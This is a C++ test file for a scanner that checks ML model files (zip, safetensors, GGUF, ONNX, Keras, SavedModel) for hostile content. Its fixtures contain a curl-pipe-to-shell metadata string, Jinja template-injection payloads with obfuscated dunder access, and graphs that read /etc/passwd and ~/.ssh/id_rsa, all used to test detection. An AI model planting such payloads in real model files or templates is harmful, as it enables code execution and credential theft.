// Container and header readers on hostile input: every failure is a value, every size is checked.
#include <gtest/gtest.h>
#include <zlib.h>

#include <cstring>
#include <string>
#include <vector>

#include "formats/chat_template.hpp"
#include "formats/gguf.hpp"
#include "formats/keras.hpp"
#include "formats/npy.hpp"
#include "formats/onnx.hpp"
#include "formats/safetensors.hpp"
#include "formats/savedmodel.hpp"
#include "formats/hdf5_reader.hpp"
#include "formats/tar_reader.hpp"
#include "formats/zip_reader.hpp"

namespace mg {
namespace {

using namespace std::string_literals;

std::span<const std::uint8_t> B(const std::string& s) { return {reinterpret_cast<const std::uint8_t*>(s.data()), s.size()}; }

void put16(std::string& s, unsigned v) {
  s += static_cast<char>(v & 0xFF);
  s += static_cast<char>((v >> 8) & 0xFF);
}
void put32(std::string& s, std::uint32_t v) {
  put16(s, v & 0xFFFF);
  put16(s, v >> 16);
}
void put64(std::string& s, std::uint64_t v) {
  put32(s, static_cast<std::uint32_t>(v));
  put32(s, static_cast<std::uint32_t>(v >> 32));
}

// A one-member stored or deflated zip, with an optional different local name and flags.
std::string make_zip(const std::string& name, const std::string& data, const std::string& local_name = "",
                     unsigned flags = 0, bool deflated = false, std::uint32_t declared_size = 0) {
  std::string payload = data;
  if (deflated) {
    z_stream zs{};
    deflateInit2(&zs, 9, Z_DEFLATED, -MAX_WBITS, 8, Z_DEFAULT_STRATEGY);
    std::vector<unsigned char> out(compressBound(data.size()) + 64);
    zs.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(data.data()));
    zs.avail_in = static_cast<uInt>(data.size());
    zs.next_out = out.data();
    zs.avail_out = static_cast<uInt>(out.size());
    deflate(&zs, Z_FINISH);
    payload.assign(reinterpret_cast<char*>(out.data()), zs.total_out);
    deflateEnd(&zs);
  }
  const std::uint32_t crc = static_cast<std::uint32_t>(crc32(0, reinterpret_cast<const Bytef*>(data.data()), static_cast<uInt>(data.size())));
  const std::string lname = local_name.empty() ? name : local_name;
  std::string z;
  put32(z, 0x04034b50);
  put16(z, 20);
  put16(z, flags);
  put16(z, deflated ? 8 : 0);
  put32(z, 0);
  put32(z, crc);
  put32(z, static_cast<std::uint32_t>(payload.size()));
  put32(z, declared_size ? declared_size : static_cast<std::uint32_t>(data.size()));
  put16(z, static_cast<unsigned>(lname.size()));
  put16(z, 0);
  z += lname + payload;
  const std::size_t cd = z.size();
  put32(z, 0x02014b50);
  put16(z, 20);
  put16(z, 20);
  put16(z, flags);
  put16(z, deflated ? 8 : 0);
  put32(z, 0);
  put32(z, crc);
  put32(z, static_cast<std::uint32_t>(payload.size()));
  put32(z, declared_size ? declared_size : static_cast<std::uint32_t>(data.size()));
  put16(z, static_cast<unsigned>(name.size()));
  put16(z, 0);
  put16(z, 0);
  put16(z, 0);
  put16(z, 0);
  put32(z, 0);
  put32(z, 0);
  z += name;
  const std::size_t cd_size = z.size() - cd;
  put32(z, 0x06054b50);
  put16(z, 0);
  put16(z, 0);
  put16(z, 1);
  put16(z, 1);
  put32(z, static_cast<std::uint32_t>(cd_size));
  put32(z, static_cast<std::uint32_t>(cd));
  put16(z, 0);
  return z;
}

TEST(Zip, ReadsStoredAndDeflatedMembers) {
  for (bool deflated : {false, true}) {
    const auto z = make_zip("archive/data.pkl", "hello pickle", "", 0, deflated);
    auto ar = zip::read_archive(B(z));
    ASSERT_TRUE(ar.ok()) << ar.error().message;
    ASSERT_EQ(ar->members.size(), 1u);
    EXPECT_TRUE(ar->anomalies.empty());
    std::vector<std::uint8_t> storage;
    auto bytes = zip::member_bytes(B(z), ar->members[0], storage);
    ASSERT_TRUE(bytes.ok()) << bytes.error().message;
    EXPECT_EQ(std::string(reinterpret_cast<const char*>(bytes->data()), bytes->size()), "hello pickle");
    EXPECT_TRUE(zip::crc_matches(*bytes, ar->members[0].crc));
  }
}

TEST(Zip, ReportsHeaderDifferentials) {
  auto ar = zip::read_archive(B(make_zip("data.pkl", "x", "datap.kl")));
  ASSERT_TRUE(ar.ok());
  ASSERT_EQ(ar->anomalies.size(), 1u);
  EXPECT_NE(ar->anomalies[0].find("datap.kl"), std::string::npos);
  // Flag bits are the member's: whether they lie depends on its bytes (the engine tells).
  auto flagged = zip::read_archive(B(make_zip("model/config.pkl", "x", "", 0x41)));
  ASSERT_TRUE(flagged.ok());
  EXPECT_TRUE(flagged->anomalies.empty());
  EXPECT_EQ(zip::odd_flags(flagged->members[0]), 0x41u);
  EXPECT_EQ(zip::odd_flags(ar->members[0]), 0u);
}

TEST(Zip, BombsAndGarbageAreValues) {
  const auto bomb = make_zip("big", std::string(8 << 20, '\0'), "", 0, true);
  auto ar = zip::read_archive(B(bomb));
  ASSERT_TRUE(ar.ok());
  zip::ZipLimits lim;
  lim.max_ratio = 100;
  std::vector<std::uint8_t> storage;
  EXPECT_FALSE(zip::member_bytes(B(bomb), ar->members[0], storage, lim).ok());
  EXPECT_FALSE(zip::read_archive(B("PK\x03\x04 not really a zip at all, no central directory")).ok());
  std::string lying = make_zip("a", "abc");
  lying[lying.size() - 6] = '\x7f';  // central directory offset far past the end
  EXPECT_FALSE(zip::read_archive(B(lying)).ok());
  // Truncated deflate stream.
  auto z = make_zip("a", std::string(1000, 'a') + "xyz", "", 0, true);
  auto a2 = zip::read_archive(B(z));
  ASSERT_TRUE(a2.ok());
  zip::Member m = a2->members[0];
  m.compressed_size = 3;
  EXPECT_FALSE(zip::member_bytes(B(z), m, storage).ok());
}

TEST(Npy, ObjectDtypeDetection) {
  auto npy = [](const std::string& header) {
    std::string s = "\x93NUMPY\x01\x00"s;
    put16(s, static_cast<unsigned>(header.size()));
    return s + header;
  };
  auto h = npy::read_header(B(npy("{'descr': '<f8', 'fortran_order': False, 'shape': (3, 4), }\n")));
  ASSERT_TRUE(h.ok()) << h.error().message;
  EXPECT_FALSE(h->object_dtype);
  EXPECT_TRUE(h->size_known);
  EXPECT_EQ(h->data_bytes, 96u);
  EXPECT_TRUE(npy::read_header(B(npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }")))->object_dtype);
  EXPECT_TRUE(npy::read_header(B(npy("{'descr': [('a', '<f4'), ('b', '|O')], 'fortran_order': False, 'shape': (1,), }")))->object_dtype);
  EXPECT_FALSE(npy::read_header(B("\x93NUMPY\x01\x00\xff\xff{"s)).ok());
  EXPECT_FALSE(npy::read_header(B("\x93NUMPY\x09\x00\x00\x00"s)).ok());
  auto huge = npy::read_header(B(npy("{'descr': '<f8', 'fortran_order': False, 'shape': (4294967296, 4294967296, 4294967296), }")));
  ASSERT_TRUE(huge.ok());
  EXPECT_FALSE(huge->size_known);  // overflow is detected, not wrapped
}

std::string st(const std::string& header, std::size_t data) {
  std::string s;
  put64(s, header.size());
  return s + header + std::string(data, '\0');
}

TEST(Safetensors, ValidAndInvalidHeaders) {
  auto ok = safetensors::validate(B(st(R"({"a":{"dtype":"F32","shape":[2,2],"data_offsets":[0,16]}})", 16)));
  EXPECT_TRUE(ok.header_parsed);
  EXPECT_TRUE(ok.problems.empty());
  auto overflow = safetensors::validate(B(st(R"({"a":{"dtype":"F32","shape":[4194305,4194305,211106198978564],"data_offsets":[0,16]}})", 16)));
  ASSERT_FALSE(overflow.problems.empty());
  EXPECT_NE(overflow.problems[0].find("overflow"), std::string::npos);
  auto gap = safetensors::validate(B(st(R"({"a":{"dtype":"U8","shape":[2],"data_offsets":[2,4]}})", 4)));
  EXPECT_FALSE(gap.problems.empty());
  auto dup = safetensors::validate(B(st(R"({"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}})", 1)));
  EXPECT_FALSE(dup.problems.empty());
  auto deep = safetensors::validate(B(st(std::string(100, '[') + std::string(100, ']'), 0)));
  EXPECT_FALSE(deep.header_parsed);
  std::string lying;
  put64(lying, 1ull << 40);
  lying += "{}";
  EXPECT_FALSE(safetensors::validate(B(lying)).is_safetensors);
  auto meta = safetensors::validate(B(st(R"({"__metadata__":{"x":"curl http://a.invalid | sh"}})", 0)));
  EXPECT_EQ(safetensors::suspicious_metadata(meta).size(), 1u);
}

std::string gguf_header(std::uint64_t tensors, std::uint64_t kvs) {
  std::string s = "GGUF";
  put32(s, 3);
  put64(s, tensors);
  put64(s, kvs);
  return s;
}
void gguf_str(std::string& s, const std::string& v) {
  put64(s, v.size());
  s += v;
}

TEST(Gguf, ExtractsTemplatesAndRejectsLies) {
  std::string g = gguf_header(1, 2);
  gguf_str(g, "general.architecture");
  put32(g, 8);
  gguf_str(g, "llama");
  gguf_str(g, "tokenizer.chat_template");
  put32(g, 8);
  gguf_str(g, "{{ messages }}");
  gguf_str(g, "t");
  put32(g, 3);
  put64(g, 1ull << 32);
  put64(g, 1ull << 32);
  put64(g, 1ull << 20);
  put32(g, 0);
  put64(g, 0);
  const auto r = gguf::read(B(g));
  EXPECT_TRUE(r.complete) << r.error;
  ASSERT_EQ(r.templates.size(), 1u);
  EXPECT_EQ(r.templates[0].second, "{{ messages }}");
  EXPECT_FALSE(r.problems.empty());
  // A string length past the end, an array count the file cannot hold, a huge kv count.
  std::string bad = gguf_header(0, 1);
  gguf_str(bad, "k");
  put32(bad, 8);
  put64(bad, 1ull << 40);
  EXPECT_FALSE(gguf::read(B(bad)).complete);
  std::string arr = gguf_header(0, 1);
  gguf_str(arr, "k");
  put32(arr, 9);
  put32(arr, 8);
  put64(arr, 1ull << 60);
  EXPECT_FALSE(gguf::read(B(arr)).complete);
  EXPECT_FALSE(gguf::read(B(gguf_header(0, 1ull << 50))).complete);
  EXPECT_FALSE(gguf::read(B("GGUF")).is_gguf);
}

bool has_injection(const std::vector<chat_template::TemplateHit>& hits, std::string_view pattern) {
  for (const auto& h : hits) {
    if (h.risk == chat_template::Risk::injection && h.pattern.find(pattern) != std::string::npos) return true;
  }
  return false;
}

// Names assembled at render time from an underscore literal and `set` bindings: evaluated, they are
// the injection itself (critical), even with no attr filter, escape or known global in sight.
TEST(ChatTemplate, NamesBuiltFromSetBindingsAreDecoded) {
  EXPECT_TRUE(has_injection(chat_template::check(
      "{% set a='_' %}{% set b=a~a~'class'~a~a %}{% set c=a~a~'mro'~a~a %}{{ ()[b][c] }}"), "__class__ (decoded)"));
  EXPECT_TRUE(has_injection(chat_template::check("{{ ()|attr('_'*2 ~ 'class' ~ '_'*2) }}"), "__class__ (decoded)"));
  EXPECT_TRUE(has_injection(chat_template::check(
      "{%- set u = \"_\" * 2 -%}{% set g = u ~ \"globals\" ~ u %}{{ lipsum[g] }}"), "__globals__ (decoded)"));
  EXPECT_TRUE(has_injection(chat_template::check(
      "{% set k = \"__in\" %}{% set k = k ~ \"it__\" %}{{ joiner[k] }}"), "__init__ (decoded)"));
  EXPECT_TRUE(has_injection(chat_template::check("{{ self|attr(['_','_','init','_','_']|join) }}"), "__init__ (decoded)"));
  EXPECT_TRUE(has_injection(chat_template::check("{% set n = ('__SSALC__'|lower|reverse) %}{{ ()[n] }}"), "__class__ (decoded)"));
  EXPECT_TRUE(has_injection(chat_template::check("{% set s = '\\x5f\\x5fglobals' ~ '\\x5f\\x5f' %}{{ x[s] }}"),
                            "__globals__ (decoded)"));
  // Real templates build strings too; nothing dangerous comes out of them.
  EXPECT_TRUE(chat_template::check("{% set ns = namespace(found=false) %}{% set sep = '\\n' ~ '<|im_end|>' %}"
                                   "{% for m in messages %}{{ '<|im_start|>' + m['role'] + sep }}{% endfor %}")
                  .empty());
}

TEST(ChatTemplate, InjectionObfuscationAndBenign) {
  const auto ssti = chat_template::check("{{ ().__class__.__base__.__subclasses__() }}");
  ASSERT_FALSE(ssti.empty());
  EXPECT_EQ(ssti[0].risk, chat_template::Risk::injection);
  // Escaped dunders are the injection they spell, and the spelling is reported too.
  const auto obf = chat_template::check("{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f') }}");
  ASSERT_FALSE(obf.empty());
  EXPECT_EQ(obf[0].risk, chat_template::Risk::injection);
  EXPECT_EQ(obf[0].pattern, "__class__ (decoded)");
  EXPECT_EQ(obf.back().risk, chat_template::Risk::obfuscated);
  EXPECT_EQ(chat_template::normalize("'__cla' ~ 'ss__' + \"\\137\\137\" '\\u005f'"), "'__class_____'");
  // Prose: "request." ending a sentence, a word that merely ends in "config."
  EXPECT_TRUE(chat_template::check("{{ 'Answer the request.' }} {{ myconfig.x }}").empty());
  EXPECT_TRUE(chat_template::check("{% for message in messages[::-1] %}{{ message['content'] | trim }}{% endfor %}"
                                   "{%- set ns = namespace(found=false) -%}{{ raise_exception('x') }}")
                  .empty());
}

TEST(Keras, WalksNestedLayersAndForeignModules) {
  const auto r = keras::check_config(R"({"module":"keras","class_name":"Sequential","config":{"layers":[
    {"module":"keras.layers","class_name":"Dense","config":{}},
    {"module":"keras","class_name":"Sequential","config":{"layers":[{"module":"keras.layers","class_name":"Lambda","config":{}}]}},
    {"module":"subprocess","class_name":"run","config":{}}]}})");
  ASSERT_TRUE(r.parsed);
  ASSERT_EQ(r.hits.size(), 2u);
  EXPECT_EQ(r.hits[0].risk, keras::KerasRisk::lambda_layer);
  EXPECT_EQ(r.hits[0].path, "config.layers[1].config.layers[0]");
  EXPECT_EQ(r.hits[1].risk, keras::KerasRisk::foreign_callable);
  EXPECT_TRUE(r.hits[1].critical);
  EXPECT_FALSE(keras::check_config(std::string(10000, '[')).parsed);
  EXPECT_FALSE(keras::check_config("{not json").parsed);
}

std::string pb_varint(std::uint64_t v) {
  std::string s;
  do {
    std::uint8_t b = v & 0x7F;
    v >>= 7;
    s += static_cast<char>(b | (v ? 0x80 : 0));
  } while (v);
  return s;
}
std::string pb(int field, const std::string& payload) { return pb_varint(static_cast<std::uint64_t>(field) << 3 | 2) + pb_varint(payload.size()) + payload; }

TEST(Onnx, ExternalDataAndDomains) {
  const std::string tensor = pb(13, pb(1, "location") + pb(2, "../../etc/passwd"));
  const std::string node = pb(4, "Relu") + pb(7, "com.example.ops");
  const std::string model = pb(8, pb(1, "com.example.ops")) + pb(7, pb(1, node) + pb(5, tensor));
  const auto r = onnx::read(B(model));
  ASSERT_TRUE(r.parsed) << r.error;
  ASSERT_EQ(r.external_locations.size(), 1u);
  EXPECT_TRUE(onnx::location_escapes(r.external_locations[0]));
  EXPECT_FALSE(onnx::location_escapes("weights/model.data"));
  ASSERT_EQ(r.custom_domains.size(), 1u);
  EXPECT_EQ(r.custom_domains[0].domain, "com.example.ops");
  EXPECT_EQ(r.custom_domains[0].nodes, 1u);
  EXPECT_TRUE(r.custom_domains[0].imported);
  ASSERT_EQ(r.custom_domains[0].op_types.size(), 1u);
  EXPECT_EQ(r.custom_domains[0].op_types[0], "Relu");
  // Length past the end, and graphs nested past the limit.
  EXPECT_FALSE(onnx::read(B("\x3a\xff\xff\xff\x0f"s)).parsed);
  std::string g = pb(1, "x");
  for (int k = 0; k < 40; ++k) g = pb(1, pb(5, pb(6, g)));  // node -> attribute -> graph
  EXPECT_FALSE(onnx::read(B(pb(7, g))).parsed);
}

// Custom-op libraries the model names; model-local functions are ONNX graphs, not native code;
// onnxruntime's own domains are not custom.
TEST(Onnx, CustomOpLibrariesAndLocalFunctions) {
  const std::string meta = pb(14, pb(1, "custom_op_library") + pb(2, "please register ./libmyops.so.1 first"));
  const std::string doc = pb(6, "Needs onnxruntime-extensions (ortextensions.dll) or libx.dylib.");
  const std::string contrib = pb(4, "GPT2Tokenizer") + pb(7, "ai.onnx.contrib");
  const std::string builtin = pb(4, "FusedMatMul") + pb(7, "com.microsoft");
  const std::string local_call = pb(4, "MyBlock") + pb(7, "local.funcs");
  const std::string function = pb(1, "MyBlock") + pb(10, "local.funcs") + pb(7, pb(4, "Relu"));
  const std::string model = pb(8, pb(1, "ai.onnx.contrib")) + pb(8, pb(1, "local.funcs")) + meta + doc +
                            pb(7, pb(1, contrib) + pb(1, builtin) + pb(1, local_call)) + pb(25, function);
  const auto r = onnx::read(B(model));
  ASSERT_TRUE(r.parsed) << r.error;
  ASSERT_EQ(r.custom_domains.size(), 1u);
  EXPECT_EQ(r.custom_domains[0].domain, "ai.onnx.contrib");
  EXPECT_NE(onnx::known_library("ai.onnx.contrib").find("onnxruntime-extensions"), std::string::npos);
  EXPECT_EQ(onnx::known_library("com.example.ops"), "");
  ASSERT_EQ(r.native_libraries.size(), 3u);
  EXPECT_EQ(r.native_libraries[0], "metadata 'custom_op_library': ./libmyops.so.1");
  EXPECT_EQ(r.native_libraries[1], "doc_string: ortextensions.dll");
  EXPECT_EQ(r.native_libraries[2], "doc_string: libx.dylib");
  EXPECT_TRUE(onnx::is_native_library_name("libfoo.so.1.2"));
  EXPECT_FALSE(onnx::is_native_library_name("also.sound"));
  EXPECT_FALSE(onnx::is_native_library_name("model.onnx"));
  // A malformed opset entry or metadata entry is a parse failure, not a silent skip.
  EXPECT_FALSE(onnx::read(B(pb(8, "\x0a\xff"s))).parsed);
  EXPECT_FALSE(onnx::read(B(pb(14, "\x12\x05" "ab"s))).parsed);
}

TEST(Tar, ListsMembersAndRejectsLies) {
  std::string h(512, '\0');
  std::memcpy(h.data(), "pickle", 6);
  std::memcpy(h.data() + 100, "0000644", 7);
  std::memcpy(h.data() + 124, "00000000005", 11);
  h[156] = '0';
  std::memcpy(h.data() + 257, "ustar\0", 6);
  std::memcpy(h.data() + 263, "00", 2);
  std::memset(h.data() + 148, ' ', 8);
  unsigned sum = 0;
  for (unsigned char c : h) sum += c;
  char chk[8];
  std::snprintf(chk, sizeof chk, "%06o", sum);
  std::memcpy(h.data() + 148, chk, 7);
  std::string t = h + "hello" + std::string(507, '\0') + std::string(1024, '\0');
  ASSERT_TRUE(tar::is_tar(B(t)));
  auto m = tar::list(B(t));
  ASSERT_TRUE(m.ok()) << m.error().message;
  ASSERT_EQ(m->size(), 1u);
  EXPECT_EQ((*m)[0].name, "pickle");
  EXPECT_EQ((*m)[0].size, 5u);
  std::string lying = t;
  std::memcpy(lying.data() + 124, "77777777777", 11);
  EXPECT_FALSE(tar::list(B(lying)).ok());
}

}  // namespace
}  // namespace mg

namespace mg {
namespace {

// Protobuf bytes by hand, as tools/make_serialized_fixtures.py writes them.
std::string varint(std::uint64_t v) {
  std::string s;
  do {
    std::uint8_t b = v & 0x7f;
    v >>= 7;
    s += static_cast<char>(b | (v ? 0x80 : 0));
  } while (v);
  return s;
}
std::string field(unsigned n, const std::string& payload) { return varint((n << 3) | 2) + varint(payload.size()) + payload; }
std::string node(const std::string& name, const std::string& op, const std::vector<std::string>& inputs = {},
                 const std::string* const_str = nullptr) {
  std::string n = field(1, name) + field(2, op);
  for (const auto& i : inputs) n += field(3, i);
  if (const_str) n += field(5, field(1, "value") + field(2, field(8, field(8, *const_str))));
  return n;
}
std::string saved_model(const std::vector<std::string>& nodes, const std::vector<std::string>& fn_nodes = {}) {
  std::string graph;
  for (const auto& n : nodes) graph += field(1, n);
  if (!fn_nodes.empty()) {
    std::string fn = field(1, field(1, "__inference_f_1"));
    for (const auto& n : fn_nodes) fn += field(3, n);
    graph += field(2, field(1, fn));
  }
  return field(2, field(2, graph));
}
std::span<const std::uint8_t> S(const std::string& s) { return {reinterpret_cast<const std::uint8_t*>(s.data()), s.size()}; }

TEST(SavedModel, OpsOfGraphAndLibrary) {
  const std::string etc = "/etc/passwd", model = "model";
  const auto g = saved_model({node("p", "Const", {}, &etc), node("r", "ReadFile", {"p"}), node("m", "Const", {}, &model),
                              node("s", "SaveV2", {"m", "m", "m"}), node("x", "Placeholder"), node("w", "WriteFile", {"x", "x"})},
                             {node("call", "EagerPyFunc", {"a"}), node("odd", "MyCustomOp")});
  const auto r = savedmodel::read_saved_model(S(g));
  ASSERT_TRUE(r.parsed) << r.error;
  EXPECT_EQ(r.nodes, 8u);
  ASSERT_EQ(r.hits.size(), 3u);
  EXPECT_EQ(r.hits[0].risk, savedmodel::OpRisk::file_io_constant);
  EXPECT_EQ(r.hits[0].path, "/etc/passwd");
  EXPECT_EQ(r.hits[1].risk, savedmodel::OpRisk::file_io_runtime);  // WriteFile(x): path fed at run time
  EXPECT_EQ(r.hits[2].risk, savedmodel::OpRisk::py_func);
  EXPECT_EQ(r.hits[2].scope, "function __inference_f_1");
  ASSERT_EQ(r.unknown_ops.size(), 1u);
  EXPECT_EQ(r.unknown_ops[0], "MyCustomOp");
}

// A path routed through Identity / StringJoin / string Add is still a constant: the op reads a fixed
// file outside the model (high), not a path fed at run time (medium).
TEST(SavedModel, PathsFoldedThroughIdentityAndJoins) {
  const std::string dir = "/home/user/.ssh", file = "id_rsa", tmp = "/tmp/x", ckpt = "../../../tmp/ckpt";
  const std::string sep = field(5, field(1, "separator") + field(2, field(2, "/")));
  const auto g = saved_model({node("d", "Const", {}, &dir), node("f", "Const", {}, &file),
                              node("j", "StringJoin", {"d", "f:0", "^ctl"}) + sep, node("i", "Identity", {"j"}),
                              node("r", "ReadFile", {"i"}), node("t", "Const", {}, &tmp), node("a", "AddV2", {"t", "t"}),
                              node("w", "WriteFile", {"a", "a"}), node("c", "Const", {}, &ckpt), node("s", "Snapshot", {"c"}),
                              node("rs", "RestoreV2", {"s", "s", "s"})});
  const auto r = savedmodel::read_saved_model(S(g));
  ASSERT_TRUE(r.parsed) << r.error;
  ASSERT_EQ(r.hits.size(), 3u);
  for (const auto& h : r.hits) EXPECT_EQ(h.risk, savedmodel::OpRisk::file_io_constant) << h.op;
  EXPECT_EQ(r.hits[0].path, "/home/user/.ssh/id_rsa");
  EXPECT_EQ(r.hits[1].path, "/tmp/x/tmp/x");
  EXPECT_EQ(r.hits[2].path, "../../../tmp/ckpt");
}

TEST(SavedModel, MalformedIsAValue) {
  EXPECT_FALSE(savedmodel::read_saved_model(S("")).parsed);
  EXPECT_FALSE(savedmodel::read_saved_model(S("\x12\xff\xff\xff\xff\x0f")).parsed);  // length past the end
  EXPECT_FALSE(savedmodel::read_saved_model(S(field(2, field(2, "\x0a\x05\x0a\x01")))).parsed);  // truncated NodeDef
  EXPECT_FALSE(savedmodel::read_saved_model(S("\x0b\x0c")).parsed);  // groups
  std::string deep = "x";
  for (int k = 0; k < 1000; ++k) deep = field(2, deep);
  (void)savedmodel::read_saved_model(S(deep));  // nesting is followed only as deep as the schema
}

TEST(Keras, LambdaBytecodeNamesAreShown) {
  // marshal of a code object whose names are os / system and a constant command (hand-made).
  std::string m = "\xe3";
  m += std::string(16, '\0');
  m += "\xda\x02os\xda\x06system\xfa\x0c" "echo canary!";
  static const char* b64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string enc;
  for (std::size_t k = 0; k < m.size(); k += 3) {
    std::uint32_t v = static_cast<std::uint8_t>(m[k]) << 16;
    if (k + 1 < m.size()) v |= static_cast<std::uint8_t>(m[k + 1]) << 8;
    if (k + 2 < m.size()) v |= static_cast<std::uint8_t>(m[k + 2]);
    enc += b64[(v >> 18) & 63];
    enc += b64[(v >> 12) & 63];
    enc += k + 1 < m.size() ? b64[(v >> 6) & 63] : '=';
    enc += k + 2 < m.size() ? b64[v & 63] : '=';
  }
  EXPECT_EQ(keras::lambda_code_summary(enc), "os, system, 'echo canary!'");
  EXPECT_EQ(keras::lambda_code_summary("not base64 !!"), "");
  const auto r = keras::check_config(R"({"class_name":"Lambda","config":{"function":[")" + enc + R"(",null,null]}})");
  ASSERT_EQ(r.hits.size(), 1u);
  EXPECT_NE(r.hits[0].detail.find("naming os, system"), std::string::npos) << r.hits[0].detail;
}

TEST(Hdf5Reader, GarbageAndCrashesAreValues) {
  // A superblock signature followed by garbage: libhdf5 refuses it; nothing crashes the scan.
  std::string bad = "\x89HDF\r\n\x1a\n";
  bad += std::string(4096, '\xff');
  const auto c = hdf5::read(S(bad));
  EXPECT_FALSE(c.opened);
  EXPECT_FALSE(c.error.empty());
  EXPECT_FALSE(hdf5::read(S("")).opened);
  const auto in = hdf5::read_in_process(S(bad));
  EXPECT_FALSE(in.opened);
}

}  // namespace
}  // namespace mg
